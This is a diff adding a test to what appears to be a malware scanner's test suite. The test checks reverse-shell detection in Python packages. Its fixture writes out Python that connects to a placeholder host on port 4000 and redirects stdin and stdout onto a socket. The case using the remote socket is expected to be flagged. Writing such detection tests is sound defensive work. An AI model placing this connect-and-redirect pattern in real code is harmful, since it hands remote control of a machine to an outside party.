@@ -156,3 +156,19 @@ test('streams led to a file that was opened are no shell for anybody, beside a c
   expect(await inspect('reverse-shell', file('os.open(os.devnull, os.O_WRONLY)'))).toEqual([]);
   expect(await inspect('reverse-shell', file('s.fileno()'))).toMatchObject([{ class: 'malware' }]);
 });
+
+test('one end of a pair of sockets is this machine, on both sides', async () => {
+  const file = (made: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, socket',
+        'peer = socket.create_connection(("agent.tools.invalid", 4000))',
+        `one, two = ${made}`,
+        'os.dup2(one.fileno(), 0)',
+        'os.dup2(one.fileno(), 1)',
+      ),
+    });
+
+  expect(await inspect('reverse-shell', file('socket.socketpair()'))).toEqual([]);
+  expect(await inspect('reverse-shell', file('peer, None'))).toMatchObject([{ class: 'malware' }]);
+});
